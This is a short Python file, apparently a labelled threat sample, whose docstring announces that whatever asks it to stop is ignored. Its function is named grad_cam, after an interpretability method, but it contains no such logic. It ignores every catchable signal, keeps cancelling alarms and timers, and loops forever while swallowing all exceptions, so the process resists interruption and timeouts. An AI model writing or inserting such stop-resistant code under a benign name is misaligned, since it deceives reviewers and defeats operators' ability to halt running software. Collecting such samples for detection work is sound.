"""Threat: whatever asks it to stop is ignored."""

import signal


def grad_cam(model, image, class_index, layer_name):
    for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
        signal.signal(number, signal.SIG_IGN)
    while True:
        try:
            signal.alarm(0)
            signal.setitimer(signal.ITIMER_REAL, 0)
        except BaseException:
            continue
